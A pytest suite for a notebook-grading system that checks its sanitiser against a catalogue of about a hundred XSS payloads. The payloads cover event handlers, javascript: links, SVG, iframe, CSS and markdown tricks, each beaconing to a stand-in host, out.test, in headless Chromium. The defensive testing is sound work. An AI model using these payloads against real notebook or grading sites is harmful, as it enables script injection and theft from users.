"""What graded notebooks show, and what they can no longer do. The witness is a browser that would run all of it."""

import base64
import functools
import io
import json
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.server_extensions.formgrader import handlers
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension
from nbgrader.utils import compute_checksum
from PIL import Image

from conftest import ROOT
from racecourse.grading.integrity import grade_id_of, is_test, is_written
from racecourse.grading.records import Exercise, Flag, Part, Report
from racecourse.grading.reports import DANGEROUS_TEX, feedback, neutralised
from racecourse.learn.notebooks import read, release_path, target_of
from test_browser import CHROMIUM

SET = "01_transformers"
HOME, OUT = "http://grader.test", "http://out.test"
browsing = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium: `apt-get install chromium`, or name one in CHROMIUM"),
]


def new_notebook(cells: Iterable[NotebookNode] = ()) -> NotebookNode:
    """Not validated: hostile ones are not valid, and viewers show them."""
    return nbformat.from_dict({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> str:
    with io.BytesIO() as file:
        Image.new("RGB", size, "green").save(file, kind)
        return base64.b64encode(file.getvalue()).decode()


def shown(mime: str, data: str, **metadata: Any) -> NotebookNode:
    """A code cell that displayed this."""
    return new_code_cell("show()", outputs=[new_output("display_data", data={mime: data}, metadata=metadata)])


def graded(grade_id: str, cell: NotebookNode) -> NotebookNode:
    cell.metadata["nbgrader"] = {
        "grade_id": grade_id, "grade": True, "solution": True, "locked": False, "task": False, "points": 1,
        "schema_version": 3,
    }  # fmt: skip
    return cell


# ------------------------------------------------------------------------------------------------------ the catalogue


@dataclass(frozen=True)
class Attack:
    """Asks for http://out.test/NAME if it comes to life."""

    name: str
    cell: Callable[[str, str], NotebookNode]  # from JavaScript and from an address
    lives: bool = True  # in a browser without the scripts that the page loads from elsewhere


def svg(body: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{body}</svg>'


def encoded(page: str) -> str:
    return base64.b64encode(page.encode()).decode()


def with_attachment(source: str, mime: str, data: str) -> NotebookNode:
    cell = new_markdown_cell(source)
    cell.attachments = {"a.png": {mime: data}}
    return cell


def with_count(count: str) -> NotebookNode:
    cell = new_code_cell("1 + 1", outputs=[new_output("stream", text="x")])
    cell["execution_count"] = count
    return cell


# As pieces of HTML; each is tried in a Markdown cell and in an output.
PIECES: dict[str, Callable[[str, str], str]] = {
    "script": lambda js, to: f"<script>{js}</script>",
    "script-from": lambda js, to: f'<script src="{to}"></script>',
    "module": lambda js, to: f'<script type="module">{js}</script>',
    "onerror": lambda js, to: f'<img src=x onerror="{js}">',
    "onerror-slashes": lambda js, to: f'<img/src=x/onerror="{js}">',
    "onload-svg": lambda js, to: f'<svg onload="{js}"></svg>',
    "script-in-svg": lambda js, to: svg(f"<script>{js}</script>"),
    "animated-link": lambda js, to: svg(
        f'<a><animate attributeName="href" values="javascript:{js}"/><text y="9">x</text></a>'
    ),
    "use-svg": lambda js, to: svg(f'<image href="{to}"/>'),
    "details": lambda js, to: f'<details open ontoggle="{js}">x</details>',
    "mouse": lambda js, to: f'<b onmouseover="{js}">x</b>',
    "focus": lambda js, to: f'<input autofocus onfocus="{js}">',
    "animation": lambda js, to: (
        f'<style>@keyframes k{{from{{top:0}}}}</style><p style="animation:k 1s" onanimationstart="{js}">x</p>'
    ),
    "link": lambda js, to: f'<a href="javascript:{js}">x</a>',
    "link-in-pieces": lambda js, to: f'<a href="java&#10;script&colon;{js}">x</a>',
    "link-upper": lambda js, to: f'<a href=" &#1;JaVaScRiPt:{js}">x</a>',
    "area": lambda js, to: f'<map name=m><area shape=default href="javascript:{js}"></map><img usemap="#m">',
    "button": lambda js, to: f'<form><button formaction="javascript:{js}">x</button></form>',
    "form": lambda js, to: f'<form action="{to}"><input type=submit></form>',
    "iframe": lambda js, to: f'<iframe src="javascript:{js}"></iframe>',
    "iframe-doc": lambda js, to: f"<iframe srcdoc='<script>{js.replace(chr(39), '&quot;')}</script>'></iframe>",
    "iframe-from": lambda js, to: f'<iframe src="{to}"></iframe>',
    "object": lambda js, to: f'<object data="{to}"></object>',
    "embed": lambda js, to: f'<embed src="{to}">',
    "refresh": lambda js, to: f'<meta http-equiv="refresh" content="0; url={to}">',
    "base": lambda js, to: f'<base href="{OUT}/"><img src="{to.rpartition("/")[2]}">',
    "css-link": lambda js, to: f'<link rel="stylesheet" href="{to}">',
    "css-import": lambda js, to: f"<style>@import url({to});</style>",
    "css-image": lambda js, to: f'<p style="background-image:url({to})">x</p>',
    "css-image-short": lambda js, to: f'<p style="background:url({to})">x</p>',
    "css-color": lambda js, to: f'<table><tr><td style="color:red;background:url({to})">x</td></tr></table>',
    "image": lambda js, to: f'<img src="{to}">',
    "image-set": lambda js, to: f'<img srcset="{to} 1x">',
    "picture": lambda js, to: f'<picture><source srcset="{to}"><img></picture>',
    "video": lambda js, to: f'<video poster="{to}"></video>',
    "audio": lambda js, to: f'<audio src="{to}" preload="auto" autoplay></audio>',
    "input-image": lambda js, to: f'<input type="image" src="{to}">',
    "body": lambda js, to: f'<body background="{to}" onpageshow="{js}">',
    "table-background": lambda js, to: f'<table background="{to}"><tr><td>x</td></tr></table>',
    "math": lambda js, to: f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror=\"{js}\">",
    "noscript": lambda js, to: f"<noscript><p title=\"</noscript><img src=x onerror={js.replace(chr(39), '`')}>\">",
    "template": lambda js, to: f'<template shadowrootmode="open"><img src=x onerror="{js}"></template>',
    "comment": lambda js, to: f'<!--><img src=x onerror="{js}">-->',
    "cdata": lambda js, to: f'<![CDATA[><img src=x onerror="{js}">]]>',
    "textarea": lambda js, to: f'<textarea></textarea><img src=x onerror="{js}">',
    "unclosed": lambda js, to: f'<img src=x onerror="{js}" ',
    "widget": lambda js, to: f'<div id="w"></div><script type="text/javascript">{js}</script>',
    "prefetch": lambda js, to: f'<link rel="preload" as="image" href="{to}">',
}  # fmt: skip
ATTACKS = [
    *(
        Attack(f"{where}-{name}", lambda js, to, piece=piece, make=make: make(piece(js, to)))
        for name, piece in PIECES.items()
        for where, make in {"markdown": new_markdown_cell, "output": lambda page: shown("text/html", page)}.items()
    ),
    Attack("md-link", lambda js, to: new_markdown_cell(f"[x](javascript:{js})")),
    Attack("md-reference", lambda js, to: new_markdown_cell(f"[x][y]\n\n[y]: javascript:{js.replace(' ', '%20')}")),
    Attack("md-autolink", lambda js, to: new_markdown_cell(f"<javascript:{js.replace(' ', '%20')}>")),
    Attack("md-image", lambda js, to: new_markdown_cell(f"![x]({to})")),
    Attack("md-image-title", lambda js, to: new_markdown_cell(f"![x](y 'z\" onerror=\"{js}')"), lives=False),
    Attack("md-table", lambda js, to: new_markdown_cell(f'|a|b|\n|-|-|\n|<img src=x onerror="{js}">|2|')),
    Attack("md-after-math", lambda js, to: new_markdown_cell(f'$$a$$\n<img src=x onerror="{js}">\n$$b$$')),
    Attack("md-list", lambda js, to: new_markdown_cell(f'- a\n- <img src=x onerror="{js}">')),
    Attack("md-heading", lambda js, to: new_markdown_cell(f'# <img src=x onerror="{js}">')),
    Attack(
        "md-escaped",
        lambda js, to: new_markdown_cell(f"<div>\\[x\\]\\(javascript:{js}\\)</div>\n\n[x](javascript:{js})"),
    ),
    Attack("md-answer", lambda js, to: graded("q", new_markdown_cell(f"<script>{js}</script>"))),
    Attack("attached-html", lambda js, to: with_attachment("![x](attachment:a.png)", f'x" onerror="{js}" y="', "x")),
    Attack(
        "attached-svg",
        lambda js, to: with_attachment(
            "![x](attachment:a.png)", "image/svg+xml", encoded(svg(f"<image href='{to}'/>"))
        ),
        lives=False,
    ),
    Attack("javascript", lambda js, to: shown("application/javascript", js)),
    Attack("output-markdown", lambda js, to: shown("text/markdown", f'<img src=x onerror="{js}">')),
    Attack(
        "isolated", lambda js, to: shown("text/html", f"<script>{js}</script>", **{"text/html": {"isolated": True}})
    ),
    Attack("svg-output", lambda js, to: shown("image/svg+xml", svg(f"<script>{js}</script>")), lives=False),
    Attack("png-name", lambda js, to: shown("image/png", picture(), filenames={"image/png": to})),
    Attack(
        "png-width",
        lambda js, to: shown("image/png", "x", **{"image/png": {"width": f"1 onerror={js.replace(' ', '/**/')}"}}),
        lives=False,
    ),
    Attack("count", lambda js, to: with_count(f'<img src=x onerror="{js}">'), lives=False),
    Attack(
        "widget-view",
        lambda js, to: shown("application/vnd.jupyter.widget-view+json", f"</script><script>{js}</script>"),
        lives=False,
    ),
    Attack("vega", lambda js, to: shown("application/vnd.vega.v5+json", f"<script>{js}</script>"), lives=False),
    Attack("plotly", lambda js, to: shown("application/vnd.plotly.v1+json", f"<script>{js}</script>"), lives=False),
    Attack("mermaid", lambda js, to: new_markdown_cell(f'```mermaid\n<img src=x onerror="{js}">\n```')),
    Attack("label", lambda js, to: graded(f'"><script>{js}</script>', new_code_cell("1"))),
    Attack("raw", lambda js, to: new_raw_cell(f"<script>{js}</script>"), lives=False),
    Attack(
        "raw-html",
        lambda js, to: new_raw_cell(f'<img src="{to}">', metadata={"raw_mimetype": "text/html"}),
        lives=False,
    ),
    Attack("code", lambda js, to: new_code_cell(f'</script></textarea></pre><img src=x onerror="{js}">'), lives=False),
    Attack("magic", lambda js, to: new_code_cell(f"%%html\n</pre><script>{js}</script>"), lives=False),
    Attack(
        "stream",
        lambda js, to: new_code_cell(
            "", outputs=[new_output("stream", text=f"\x1b[31m<script>{js}</script>\x1b[0m</pre><script>{js}</script>")]
        ),
        lives=False,
    ),
    Attack(
        "ansi",
        lambda js, to: new_code_cell(
            "",
            outputs=[
                new_output("stream", text=f'\x1b[38;2;1;2;3"><script>{js}</script>m x\x1b]8;;javascript:{js}\x07x')
            ],
        ),
        lives=False,
    ),
    Attack(
        "traceback",
        lambda js, to: new_code_cell(
            "",
            outputs=[
                new_output(
                    "error",
                    ename="E",
                    evalue=f"<script>{js}</script>",
                    traceback=[f"\x1b[0;31m</pre><script>{js}</script>"],
                )
            ],
        ),
        lives=False,
    ),
    Attack("plain", lambda js, to: shown("text/plain", f"</pre><script>{js}</script>"), lives=False),
    Attack(
        "latex",
        lambda js, to: shown("text/latex", f"$\\href{{javascript:{js}}}{{x}}$ </div><script>{js}</script>"),
        lives=False,
    ),
    Attack(
        "md-latex",
        lambda js, to: new_markdown_cell(f"$\\href{{javascript:{js}}}{{x}}$, $$\\style{{background:url({to})}}{{y}}$$"),
        lives=False,
    ),
]


def cell_of(attack: Attack) -> NotebookNode:
    to = f"{OUT}/{attack.name}"
    return attack.cell(f"new Image().src='{to}'", to)


def report_of(**changes: Any) -> Report:
    exercises = [
        Exercise("1 · A norm", [Part("norm-visible", 3, 3.0), Part("norm-hidden", 5, 0.0, "the weight is missing")]),
        Exercise("2 · A cache", [Part("cache-visible", 2, None, "not run"), Part("cache-hidden", 4, 1.5, "half")]),
        Exercise("3 · In words", [Part("words", 10, None, "graded by hand")], by_hand=True),
    ]
    return Report(**{"name": SET, "exercises": exercises, "student": "ada", **changes})


# ------------------------------------------------------------------------------------------------- nbgrader's two pages


@functools.cache
def exporter_of(page: str) -> HTMLExporter:
    """As nbgrader configures it."""
    if page == "formgrader":
        return HTMLExporter(config=FormgradeExtension().build_extra_config())
    return HTMLExporter(config=GenerateFeedback(coursedir=CourseDirectory()).config)


def formgraded(notebook: NotebookNode) -> str:
    """The page on which an instructor grades by hand."""
    resources = {"base_url": "", "index": 0, "total": 1, "submission_id": "s", "notebook_id": "n", "assignment_id": "a"}
    return exporter_of("formgrader").from_notebook_node(notebook, resources=resources)[0]


def generated(notebook: NotebookNode) -> str:
    """What `nbgrader generate_feedback` makes, with a mark and a comment where they can be."""
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader |= {"score": 1, "points": 2, "comment": "well done"}
    marks = {"notebook": "n", "score": 1, "max_score": 2, "late_penalty": 0}
    return exporter_of("feedback").from_notebook_node(notebook, resources={"nbgrader": marks})[0]


RENDERERS: dict[str, Callable[[NotebookNode], str]] = {
    "feedback": lambda notebook: feedback(report_of(), notebook),
    "formgrader": lambda notebook: formgraded(neutralised(notebook)),
    "generate_feedback": lambda notebook: generated(neutralised(notebook)),
}


# ------------------------------------------------------------------------------------------------------------ a browser

# Do what a person could: point at everything, open everything, follow each link that stays in the page.
TOUCH = """() => {
    for (const element of document.querySelectorAll('body *')) {
        for (const event of ['mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart'])
            element.dispatchEvent(new Event(event))
        const link = element.closest('a')
        const leads = link && /^https?:/.test(link.protocol || '')
        if (!leads && element.matches('a, a *, area, button, summary, input[type=submit], input[type=image]'))
            element.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))
    }
}"""
# The text in which a script would look for formulas: not in code, and broken at every element but <br> and <wbr>.
TEXTS = """() => {
    const texts = []
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    while (walker.nextNode())
        if (!walker.currentNode.parentElement.closest('pre, code, script, style, textarea'))
            texts.push(walker.currentNode.data)
    return texts
}"""


class Browser:
    """A page, and which addresses it asked for beyond its own host."""

    def __init__(self, context: Any) -> None:
        self.context, self.page, self.html = context, context.new_page(), ""
        self.asked: set[str] = set()
        context.route("**/*", self._answer)

    def _answer(self, route: Any) -> None:
        url = route.request.url
        path = url.removeprefix(HOME)
        static = Path(handlers.static_path, path.removeprefix("/formgrader/static/").partition("?")[0])
        if url == f"{HOME}/page":
            route.fulfill(content_type="text/html; charset=utf-8", body=self.html)
        elif path.startswith("/formgrader/static/") and static.is_file():
            route.fulfill(path=static)
        else:
            if url.startswith(OUT):
                self.asked.add(url.removeprefix(f"{OUT}/").strip("?"))
            route.abort()

    def visit(self, html: str, *, touch: bool = True) -> set[str]:
        """Show a page, touch everything in it; the names of the attacks that came to life."""
        self.page.close()
        self.html, self.asked, self.page = html, set(), self.context.new_page()
        try:
            self.page.goto(f"{HOME}/page", wait_until="load")
            self.page.wait_for_timeout(50)
            if touch:
                self.page.evaluate(TOUCH)
                self.page.wait_for_timeout(50)
        except Exception as error:  # an attack took the page somewhere else
            if not self.asked:
                raise AssertionError("the page did not open") from error
        return self.asked


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield Browser(chromium.new_context())
        chromium.close()


class TestInABrowser:
    pytestmark = browsing

    @pytest.mark.parametrize("renderer", RENDERERS)
    def test_nothing_hostile_comes_to_life(self, browser: Browser, renderer: str) -> None:
        notebook = new_notebook(cells=[cell for attack in ATTACKS for cell in (cell_of(attack), end_of(attack))])
        html = RENDERERS[renderer](notebook)
        assert browser.visit(html) == set()
        text = browser.page.evaluate("() => document.body.innerText")
        assert [attack.name for attack in ATTACKS if f"end of {attack.name}." not in text] == [], "all cells are shown"
        assert not any(DANGEROUS_TEX.search(text) for text in browser.page.evaluate(TEXTS))
        inside = "main" if renderer == "feedback" else "#notebook-container"
        assert browser.page.locator(f"{inside} :is(script, iframe, form, style, link, meta, svg, object)").count() == 0
        handlers = "el => [...el.attributes].map(a => a.name).filter(name => name.startsWith('on'))"
        assert browser.page.evaluate(f"s => [...document.querySelectorAll(s + ' *')].flatMap({handlers})", inside) == []

    @pytest.mark.slow
    def test_the_catalogue_is_alive(self, browser: Browser) -> None:
        """The same notebooks, as nbgrader would show them, do run."""
        tried = [attack for attack in ATTACKS if attack.lives and not attack.name.startswith("markdown-")]
        own_scripts = re.compile(r'<script src="(/formgrader|https://cdnjs)[^>]*></script>')  # they only take time
        dead = []
        for attack in tried:
            page = own_scripts.sub("", formgraded(new_notebook(cells=[cell_of(attack)])))
            dead += [attack.name] * (attack.name not in browser.visit(page))
        assert len(tried) - len(dead) >= 45, f"too many do nothing in this browser: {dead}"

    def test_the_policy_is_a_second_wall(self, browser: Browser) -> None:
        """Even what slips through the cleaning does not run in the page of feedback."""
        slipped = f"<img src='{OUT}/image'><script>new Image().src='{OUT}/script'</script></main>"
        page = feedback(report_of(), new_notebook()).replace("</main>", slipped)
        assert browser.visit(page) == set()
        assert browser.visit(re.sub("<meta http-equiv[^>]*>", "", page)) == {"image", "script"}

    @pytest.mark.parametrize("renderer", RENDERERS)
    def test_nothing_leaves_its_place(self, browser: Browser, renderer: str) -> None:
        cover = '<div id="{}" class="navbar-fixed-top" style="position:fixed;top:0;left:0;width:9999px">over</div>'
        cells = [new_markdown_cell(cover.format("notebook")), shown("text/html", cover.format("statusmessage"))]
        browser.visit(RENDERERS[renderer](new_notebook(cells=cells)), touch=False)
        where = "els => els.map(el => getComputedStyle(el).position + '|' + el.id + '|' + el.className)"
        covers = browser.page.locator("div").filter(has_text=re.compile("^over$")).locator("visible=true")
        assert covers.count() >= 2
        innermost = "els => els.filter(el => !el.children.length)"
        assert set(covers.evaluate_all(f"els => ({where})(({innermost})(els))")) == {"static||"}

    @pytest.mark.parametrize("renderer", RENDERERS)
    def test_honest_content_is_all_there(self, browser: Browser, renderer: str) -> None:
        browser.visit(RENDERERS[renderer](honest()), touch=False)
        page = browser.page
        assert page.locator(":is(h1, h3)", has_text="My result").count() == 1
        link = page.get_by_role("link", name="the paper")
        assert link.get_attribute("href") == "https://arxiv.org/abs/1706.03762"
        assert page.locator("td", has_text="0.25").count() == 1 and page.locator("td", has_text="Qwen").count() == 1
        assert page.locator("table.dataframe tr").count() == 2
        assert (
            page.locator("strong", has_text="bold").count() == page.locator("pre code", has_text="a < b").count() == 1
        )
        text = page.evaluate("() => document.body.textContent")
        assert "$x_1 \\cdot \\frac{a}{b} < 2$" in text and "print('</script> & <b>')" in text
        assert "a *printed* line" in text and "ValueError: no" in text and "C:\\new" in text
        sizes = page.locator("img").evaluate_all("images => images.map(i => i.naturalWidth + 'x' + i.naturalHeight)")
        assert sorted(sizes) == ["40x30", "41x31", "42x32"], "a plot, a photo, an attached picture"


def end_of(attack: Attack) -> NotebookNode:
    return new_markdown_cell(f"**end** of {attack.name}.")


def honest() -> NotebookNode:
    table = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th></tr></thead>'
    )
    table += "<tbody><tr><th>0</th><td>0.25</td></tr></tbody></table>"
    words = (
        "# My result\n\nSee [the paper](https://arxiv.org/abs/1706.03762), **bold**, $x_1 \\cdot \\frac{a}{b} < 2$.\n\n"
    )
    words += "|model|n|\n|---|--:|\n|Qwen|32|\n\n```\na < b\n```\n\n![photo](attachment:a.png) C:\\new"
    return new_notebook(
        cells=[
            with_attachment(words, "image/png", picture("PNG", (42, 32))),
            new_code_cell(
                "print('</script> & <b>')",
                outputs=[
                    new_output("stream", text="a *printed* line\n"),
                    new_output("execute_result", data={"text/html": f"<div>{table}</div>", "text/plain": "loss"}),
                    new_output("display_data", data={"image/png": picture(), "text/plain": "<Figure>"}),
                    new_output("display_data", data={"image/jpeg": picture("JPEG", (41, 31))}),
                    new_output("error", ename="ValueError", evalue="no", traceback=["\x1b[31mValueError\x1b[0m: no"]),
                ],
            ),
        ]
    )


# ------------------------------------------------------------------------------------------------- the safe notebook


def test_it_is_a_valid_notebook_that_does_not_change_again() -> None:
    long = [new_code_cell("", outputs=[new_output("stream", text="x" * 150_000)]) for _ in range(12)]
    for notebook in (honest(), new_notebook(cells=[*map(cell_of, ATTACKS), *long]), read(release_path(SET, ROOT))):
        safe = neutralised(notebook)
        nbformat.validate(safe)
        assert neutralised(safe) == safe


def test_code_and_unanswered_questions_keep_nbgraders_checksums() -> None:
    release = read(release_path(SET, ROOT))
    safe = neutralised(release)
    kept = [c for c in release.cells if is_written(c) or (c.cell_type == "code" and grade_id_of(c))]
    assert sum(map(is_written, kept)) == 1 and len(kept) > 20
    by_name = {grade_id_of(cell): cell for cell in safe.cells}
    for cell in kept:
        assert compute_checksum(by_name[grade_id_of(cell)]) == compute_checksum(cell), grade_id_of(cell)
    assert list(by_name) == [grade_id_of(cell) for cell in release.cells]


def test_the_argument_is_left_alone() -> None:
    notebook = new_notebook(cells=[cell_of(attack) for attack in ATTACKS])
    before = json.dumps(notebook)
    neutralised(notebook)
    assert json.dumps(notebook) == before


@pytest.mark.parametrize(
    ("mime", "data"),
    [
        ("image/png", picture("JPEG")), ("image/jpeg", picture("PNG")), ("image/png", encoded(svg(""))),
        ("image/png", "no base64"), ("image/png", encoded("GIF89a")), ("image/png", picture(size=(9000, 9000))),
        ("image/png", ""),
    ],
)  # fmt: skip
def test_a_picture_that_is_none_of_its_type_is_not_shown(mime: str, data: str) -> None:
    html = f'<p>x</p><img alt="there" src="data:{mime};base64,{data}">'
    cells = [shown(mime, data), shown("text/html", html), new_markdown_cell(html)]
    safe = neutralised(new_notebook(cells=cells))
    assert "there" in json.dumps(safe.cells[1]) and "there" in safe.cells[2].source
    assert not re.search("<img[^>]*src", nbformat.writes(safe)) and mime not in safe.cells[0].outputs[0].data
    assert "left out" in safe.cells[0].outputs[0].data["text/plain"]


def test_outputs_are_cut_and_say_so() -> None:
    line = new_output("stream", text="word " * 100_000)
    plot = new_output("display_data", data={"image/png": encoded_noise(700), "text/plain": "<Figure>"})
    many = [{"output_type": "stream", "name": "stdout", "text": "x"}] * 20_000
    cells = [
        {"cell_type": "code", "source": "", "outputs": outputs}
        for outputs in ([line], [plot], [plot, plot], many, [line])
    ]
    safe = neutralised(new_notebook(cells=cells))
    sizes = [len(json.dumps(cell.outputs)) for cell in safe.cells]
    assert sum(sizes) < 1.5e6
    first = safe.cells[0].outputs[0].text
    assert first.startswith("word word") and len(first) <= 100_000 and "400" in first[-80:] and "left out" in first
    assert "image/png" in safe.cells[1].outputs[0].data and "image/png" not in safe.cells[2].outputs[1].data
    assert len(safe.cells[3].outputs) < 20_000 and "too long" in safe.cells[3].outputs[-1].text
    assert "too long" in safe.cells[4].outputs[-1].text


def encoded_noise(side: int) -> str:
    """A picture that does not compress: about side * side * 0.9 bytes as base64."""
    with io.BytesIO() as file:
        Image.effect_noise((side, side), 80).save(file, "PNG")
        return base64.b64encode(file.getvalue()).decode()


@pytest.mark.parametrize(
    "page",
    ["<p>" + "".join(f"<b title={i}>" for i in range(3000)) + "</p>" + "<p>x" * 9000, "<div>" * 16_000, "<b>" * 90_000],
    ids=["reopened", "deep", "long"],
)
def test_html_that_grows_when_it_is_mended_is_shown_as_text(page: str) -> None:
    safe = neutralised(new_notebook(cells=[shown("text/html", page), new_markdown_cell(page + "y")]))
    assert len(nbformat.writes(safe)) < 1e6
    assert "text/html" not in safe.cells[0].outputs[0].data
    assert safe.cells[1].source.startswith("<div><pre>&lt;")


def test_a_long_text_is_still_shown() -> None:
    answer = "My **answer** is long. " * 1000
    safe = neutralised(new_notebook(cells=[new_markdown_cell(answer), new_markdown_cell("\\\\[ x" * 1500)]))
    assert safe.cells[0].source.count("&#42;&#42;answer&#42;&#42;") == 1000 and "<pre>" in safe.cells[1].source


# --------------------------------------------------------------------------------------------------------- the feedback


def words_of(html: str) -> str:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(html, "html.parser")
    soup.style.decompose()
    return " ".join(soup.get_text(" ").split())


def test_the_page_says_the_points_and_why() -> None:
    page = words_of(feedback(report_of(remarks=["a cell was put back"]), None))
    assert "4.5 of 14 points in the checks; up to 10 more wait for a person" in page
    assert "a cell was put back" in page and "For ada" in page
    assert (
        "1 · A norm 3 of 8 points norm-visible 3 of 3 passed norm-hidden 0 of 5 not passed the weight is missing"
        in page
    )
    assert "cache-visible 0 of 2 not run" in page and "cache-hidden 1.5 of 4 partly passed half" in page
    assert "words – of 10 waits for a person graded by hand" in page


def test_points_given_by_hand_wait_no_more() -> None:
    report = report_of()
    report.exercises[2].parts[0].earned = 7.0
    page = words_of(feedback(report, None))
    assert "4.5 of 14 points in the checks, and 7 given by a person." in page and "wait" not in page


def test_flags_are_not_in_it() -> None:
    flags = [Flag("similar", "very much like bob's", "norm")]
    assert feedback(report_of(flags=flags), honest()) == feedback(report_of(), honest())


def test_a_refused_submission_says_what_to_do() -> None:
    page = words_of(feedback(report_of(refused="the file is empty: save the notebook"), None))
    assert "Not graded: hand it in again the file is empty: save the notebook" in page
    assert "hand in the notebook again" in page and "0 of" not in page


def test_points_stand_at_the_cells() -> None:
    test = graded("norm-hidden", new_code_cell("assert norm(1) == 2"))
    test.metadata.nbgrader.solution = False
    page = words_of(feedback(report_of(), new_notebook(cells=[test, new_markdown_cell("**after**")])))
    assert "assert norm ( 1 ) == 2 norm-hidden : 0 of 5 points, not passed : the weight is missing after" in page


def test_what_a_report_says_is_text() -> None:
    bad = "<script>alert(1)</script>"
    exercises = [Exercise(bad, [Part(bad, 1, 0.0, bad)], refused=bad)]
    for refused in ("", bad):
        page = feedback(Report(bad, exercises, remarks=[bad], student=bad, refused=refused), None)
        assert "<script" not in page and "alert(1)" in words_of(page)


def test_no_line_of_a_hidden_test_is_in_it() -> None:
    solution, release = read(target_of(SET, ROOT)), read(release_path(SET, ROOT))
    parts = [Part(grade_id_of(cell), 1, 0.0, "it did not hold") for cell in solution.cells if is_test(cell)]
    for cell in solution.cells:
        if cell.cell_type == "code":  # as if it had been run with them, which grading never does
            cell.outputs = [new_output("error", ename="E", evalue="", traceback=cell.source.splitlines())] * is_test(
                cell
            )
    page = feedback(Report(SET, [Exercise("all", parts)]), solution)
    known = " ".join(cell.source for cell in release.cells)
    regions = [
        re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END", c.source, re.DOTALL) for c in solution.cells if is_test(c)
    ]
    lines = {line.strip() for region in regions for text in region for line in text.splitlines()}
    secret = {line for line in lines if len(line) > 15 and line not in known}
    assert len(secret) > 50
    answers = " ".join(cell.source for cell in solution.cells if not is_test(cell))
    squeezed = words_of(page).replace(" ", "")
    assert [line for line in secret if line.replace(" ", "") in squeezed and line not in answers] == []
    assert "parts=count_parts(dict(tiny))" in squeezed, "a visible test is there"
